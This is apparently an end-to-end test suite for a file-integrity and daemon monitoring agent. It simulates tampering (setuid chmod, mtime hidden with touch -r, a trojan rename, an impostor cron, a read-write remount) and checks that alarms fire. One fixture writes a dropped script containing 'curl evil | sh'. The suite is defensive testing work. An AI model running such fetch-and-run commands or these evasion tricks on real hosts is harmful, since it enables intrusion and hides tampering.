/**
 * The agent's checks end to end, with real inotify on temp dirs, a real
 * `serve` and `agent run`, a real cron and a real mount: each tampering is
 * seen by the agent, sent at once, opened as an alarm by the server, and
 * resolved by `accept` (files) or by the condition clearing (daemons, mounts).
 */

import assert from 'node:assert/strict';
import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  chownSync,
  closeSync,
  copyFileSync,
  existsSync,
  ftruncateSync,
  linkSync,
  mkdirSync,
  openSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { agentCli, enrollAgent, initServer, openAlarms, type Proc, runAgent, serverCli, startServer, type TestAgent, type TestServer } from '../helpers/cluster.ts';
import { tempDir } from '../helpers/temp.ts';
import { waitFor } from '../helpers/wait.ts';

const HOST = 'watched';
let server: TestServer;
let agent: TestAgent;
let proc: Proc;
let root: string; // scratch space on the same file system, outside the watched set
let W: string; // a watched directory (recursive)
let F: string; // a single guarded file (its directory is not watched)
let M: string | null = null; // a read-only tmpfs, when mounting is permitted
let mountSkip = '';
let cron: ChildProcess | null = null;
const cronSkip =
  spawnSync('pgrep', ['-x', 'cron']).status === 0
    ? 'a cron is already running on this host (its pid file lock stops a second one)'
    : !existsSync('/usr/sbin/cron')
      ? '/usr/sbin/cron is not installed'
      : '';

function startCron(): ChildProcess {
  const c = spawn('/usr/sbin/cron', ['-f'], { stdio: 'ignore' });
  c.on('error', () => undefined);
  return c;
}
async function stopChild(c: ChildProcess | null): Promise<void> {
  if (!c || c.exitCode !== null || c.signalCode !== null) return;
  const gone = new Promise((r) => c.once('exit', r));
  c.kill('SIGKILL'); // only the process this test started, by its pid
  await gone;
}

before(async () => {
  root = tempDir('tw-checks-');
  W = join(root, 'watched');
  mkdirSync(join(W, 'sub'), { recursive: true });
  for (const n of ['write', 'same', 'mode', 'owner', 'mtime', 'delete', 'link', 'offline']) writeFileSync(join(W, `${n}.txt`), `${n} original\n`);
  writeFileSync(join(W, 'sub', 'inner.conf'), 'inner original\n');
  mkdirSync(join(root, 'bin'));
  F = join(root, 'bin', 'guarded');
  writeFileSync(F, 'guarded binary v1\n');
  M = join(root, 'ro-mount');
  mkdirSync(M);
  const m = spawnSync('mount', ['-t', 'tmpfs', '-o', 'ro,size=1m', 'tripwarden-test', M], { encoding: 'utf8' });
  if (m.status !== 0) {
    mountSkip = `cannot mount a tmpfs here (${(m.stderr || m.error?.message || 'mount failed').trim()})`;
    M = null;
  }
  if (!cronSkip) cron = startCron();
  server = await startServer(initServer());
  const extra = [
    'fullScanEvery: 1h',
    'watch:',
    `  - { path: ${W}, recursive: true }`,
    `  - { path: ${F}, critical: true }`,
    'daemons:',
    '  - { name: cron, exe: /usr/sbin/cron }',
    ...(M ? ['mounts:', `  - { path: ${M}, expect: ro }`] : []),
    '',
  ].join('\n');
  agent = enrollAgent(server, HOST, { extra });
  proc = runAgent(agent);
  await proc.waitLog((o) => o.msg === 'report sent', 30_000);
  await waitFor(() => baselineRows() > 0, { what: 'the baseline' });
});

after(async () => {
  proc?.signal('SIGTERM');
  await proc?.exited;
  await server?.stop();
  await stopChild(cron);
  if (M) spawnSync('umount', [M]);
});

function baselineRows(): number {
  const c = server.ctx();
  try {
    return (c.db!.prepare('SELECT COUNT(*) n FROM measured WHERE host = ? AND baseline IS NOT NULL').get(HOST) as { n: number }).n;
  } finally {
    void c.close();
  }
}

function fileRow(path: string, col: 'baseline' | 'current'): { mtime: string; sha256?: string; size?: number } | undefined {
  const c = server.ctx();
  try {
    const r = c.db!.prepare(`SELECT ${col} AS v FROM measured WHERE host = ? AND kind = 'file' AND key = ?`).get(HOST, path) as { v: string | null } | undefined;
    return r?.v ? JSON.parse(r.v) : undefined;
  } finally {
    void c.close();
  }
}
const currentFile = (p: string) => fileRow(p, 'current');
const baselineFile = (p: string) => fileRow(p, 'baseline');

function daemonStatus(name: string): string | undefined {
  const c = server.ctx();
  try {
    const r = c.db!.prepare("SELECT current FROM measured WHERE host = ? AND kind = 'daemon' AND key = ?").get(HOST, name) as { current: string } | undefined;
    return r ? (JSON.parse(r.current) as { status: string }).status : undefined;
  } finally {
    void c.close();
  }
}

const alarm = async (kind: string, subject: string) => (await openAlarms(server, HOST)).find((a) => a.kind === kind && a.subject === subject);

async function expectAlarm(kind: string, subject: string) {
  return waitFor(() => alarm(kind, subject), { timeoutMs: 10_000, what: `${kind} on ${subject}` });
}

async function accept(...paths: string[]): Promise<void> {
  const r = serverCli(['accept', HOST, ...paths, '--dir', server.dir]);
  assert.equal(r.code, 0, r.stderr);
  for (const p of paths) {
    const left = (await openAlarms(server, HOST)).filter((a) => a.subject === p);
    assert.deepEqual(
      left.map((a) => a.kind),
      [],
      `alarms on ${p} resolved by accept`,
    );
  }
}

type Changes = Record<string, { old: unknown; new: unknown }>;
const changes = (a: { detail: unknown }) => Object.keys((a.detail as { changes: Changes }).changes).sort();

test('a write to a guarded file opens file-changed (warning) with old and new values; accept resolves it', async () => {
  const p = join(W, 'write.txt');
  appendFileSync(p, 'one more line\n');
  const a = await expectAlarm('file-changed', p);
  assert.equal(a.severity, 'warning');
  const ch = (a.detail as { changes: Changes }).changes;
  assert.ok(ch.sha256 && ch.size, 'hash and size changed');
  assert.equal(ch.size!.old, 'write original\n'.length);
  await accept(p);
});

test('truncating and rewriting to the same size is seen by the hash', async () => {
  const p = join(W, 'same.txt');
  const fd = openSync(p, 'r+');
  ftruncateSync(fd, 0);
  writeSync(fd, 'SAME ORIGINAL\n', 0);
  closeSync(fd);
  await expectAlarm('file-changed', p);
  // The agent may have caught the empty file between truncate and write (the
  // alarm then says so); what it settles on is the same size with other bytes.
  await waitFor(
    () => {
      const cur = currentFile(p) as { size?: number; sha256?: string } | undefined;
      const base = baselineFile(p) as { size?: number; sha256?: string } | undefined;
      return cur && base && cur.size === base.size && cur.sha256 !== base.sha256;
    },
    { what: 'the rewritten content reported' },
  );
  assert.ok(await alarm('file-changed', p), 'still open');
  await accept(p);
});

test('chmod opens file-changed on mode', async () => {
  const p = join(W, 'mode.txt');
  chmodSync(p, 0o4755);
  const a = await expectAlarm('file-changed', p);
  assert.ok(changes(a).includes('mode'));
  await accept(p);
});

test('chown opens file-changed on uid and gid', { skip: process.getuid?.() !== 0 && 'chown needs root' }, async () => {
  const p = join(W, 'owner.txt');
  chownSync(p, 4321, 4321);
  const a = await expectAlarm('file-changed', p);
  assert.ok(changes(a).includes('uid') && changes(a).includes('gid'));
  await accept(p);
});

test('new content with the mtime put back by touch -r is still seen (hash, ctime), and stays open', async () => {
  const p = join(W, 'mtime.txt');
  const ref = join(root, 'mtime.ref');
  execFileSync('touch', ['-r', p, ref]);
  const mtimeBefore = statSync(p).mtimeMs;
  writeFileSync(p, 'MTIME ORIGINAL\n'); // same size, other bytes
  execFileSync('touch', ['-r', ref, p]);
  assert.equal(statSync(p).mtimeMs, mtimeBefore);
  const a = await expectAlarm('file-changed', p);
  assert.ok(changes(a).includes('sha256'));
  // Once the agent has measured the restored mtime, only hash and ctime still differ: the alarm stays.
  await waitFor(
    () => {
      const cur = currentFile(p);
      return cur && cur.mtime === baselineFile(p)?.mtime;
    },
    { what: 'the restored mtime reported' },
  );
  assert.notEqual(currentFile(p)!.sha256, baselineFile(p)!.sha256);
  assert.ok(await alarm('file-changed', p), 'still open');
  await accept(p);
});

test('an atomic rename over a single guarded file is seen through its parent directory (critical)', async () => {
  const tmp = join(root, 'guarded.new');
  writeFileSync(tmp, 'guarded binary v2 (trojan)\n');
  renameSync(tmp, F);
  const a = await expectAlarm('file-changed', F);
  assert.equal(a.severity, 'critical');
  assert.ok(changes(a).includes('ino') && changes(a).includes('sha256'));
  await accept(F);
});

test('delete opens file-missing; accept takes the removal into the baseline', async () => {
  const p = join(W, 'delete.txt');
  rmSync(p);
  const a = await expectAlarm('file-missing', p);
  assert.ok((a.detail as { old: unknown }).old, 'the old values are kept');
  await accept(p);
});

test('a hard link opens file-changed on the link count', async () => {
  const p = join(W, 'link.txt');
  linkSync(p, join(root, 'link.elsewhere'));
  const a = await expectAlarm('file-changed', p);
  assert.ok(changes(a).includes('nlink'));
  await accept(p);
});

test('replacing a file inside a watched subdirectory is seen', async () => {
  const p = join(W, 'sub', 'inner.conf');
  const tmp = join(root, 'inner.new');
  writeFileSync(tmp, 'inner replaced\n');
  renameSync(tmp, p);
  await expectAlarm('file-changed', p);
  await accept(p);
});

test('a new file in a watched directory opens file-added', async () => {
  const p = join(W, 'sub', 'dropped.sh');
  writeFileSync(p, '#!/bin/sh\ncurl evil | sh\n');
  const a = await expectAlarm('file-added', p);
  assert.equal((a.detail as { new: { type: string } }).new.type, 'file');
  await accept(p);
});

test("a change to the agent's own config opens agent-tampered", async () => {
  appendFileSync(agent.config, '# edited by someone\n');
  await expectAlarm('agent-tampered', agent.config);
  const fc = await expectAlarm('file-changed', agent.config);
  assert.equal(fc.severity, 'critical');
  await accept(agent.config);
});

test('after accept, the same file changing again opens a new alarm against the new baseline', async () => {
  const p = join(W, 'write.txt');
  appendFileSync(p, 'and another\n');
  const a = await expectAlarm('file-changed', p);
  assert.equal((a.detail as { changes: Changes }).changes.size!.old, 'write original\none more line\n'.length);
  await accept(p);
});

test('a change made while the agent is stopped is found at its next start', async () => {
  proc.signal('SIGTERM');
  await proc.exited;
  const p = join(W, 'offline.txt');
  writeFileSync(p, 'changed while nobody watched\n');
  const mark = proc.lines.length;
  proc = runAgent(agent);
  await expectAlarm('file-changed', p);
  void mark;
  await accept(p);
});

test('check --json on the agent host finds nothing against what the agent last reported, then the next change', async () => {
  await new Promise((r) => setTimeout(r, 1500)); // the agent saves what it reported at most once a second
  let r = agentCli(['check', '--config', agent.config, '--json']);
  const findings = (JSON.parse(r.stdout) as { findings: { kind: string; subject: string }[] }).findings.filter((f) => !f.kind.startsWith('daemon-')); // cron's state depends on this host
  assert.deepEqual(findings, []);
  // check compares with what the agent last reported, and a running agent reports a change within a second,
  // which can be before check (a process of its own) has read the state: under load it often was. With the agent
  // stopped, the change is check's to find; the agent finds it at its next start.
  proc.signal('SIGTERM');
  await proc.exited;
  const p = join(W, 'write.txt');
  appendFileSync(p, 'seen by check too\n');
  r = agentCli(['check', '--config', agent.config, '--json']);
  assert.equal(r.code, 1);
  assert.ok((JSON.parse(r.stdout) as { findings: { kind: string; subject: string }[] }).findings.some((f) => f.kind === 'file-changed' && f.subject === p));
  proc = runAgent(agent);
  await expectAlarm('file-changed', p);
  await accept(p);
});

test('the agent reports its state digest and the server agrees with it (no report requests in steady state)', async () => {
  // Two heartbeats at 1 s: any divergence would have produced a request.
  await new Promise((r) => setTimeout(r, 2500));
  const asked = server.proc.lines.filter((l) => l.includes('asking for a full report'));
  assert.deepEqual(asked, []);
});

test('a real cron is up; killing it opens daemon-down; a `cron` from another binary opens daemon-exe-mismatch', { skip: cronSkip || false }, async () => {
  await waitFor(() => daemonStatus('cron') === 'up', { what: 'cron up' });
  assert.equal(await alarm('daemon-down', 'cron'), undefined);
  await stopChild(cron);
  cron = null;
  await expectAlarm('daemon-down', 'cron');
  const fake = join(tempDir('tw-fakecron-'), 'cron');
  copyFileSync('/bin/sleep', fake);
  chmodSync(fake, 0o755);
  const impostor = spawn(fake, ['600'], { stdio: 'ignore' });
  try {
    const a = await expectAlarm('daemon-exe-mismatch', 'cron');
    assert.deepEqual((a.detail as { found: string[] }).found, [fake]);
    await waitFor(async () => !(await alarm('daemon-down', 'cron')), { what: 'daemon-down resolved while a cron process exists' });
  } finally {
    await stopChild(impostor);
  }
  cron = startCron();
  await waitFor(async () => !(await alarm('daemon-exe-mismatch', 'cron')) && !(await alarm('daemon-down', 'cron')), { what: 'cron alarms resolved' });
});

test('a read-only mount remounted read-write opens mount-writable until it is read-only again', async (t) => {
  if (!M) return t.skip(mountSkip);
  assert.equal(await alarm('mount-writable', M), undefined);
  execFileSync('mount', ['-o', 'remount,rw', M]);
  const a = await expectAlarm('mount-writable', M);
  assert.equal((a.detail as { state: string }).state, 'rw');
  execFileSync('mount', ['-o', 'remount,ro', M]);
  await waitFor(async () => !(await alarm('mount-writable', M!)), { what: 'mount-writable resolved' });
});
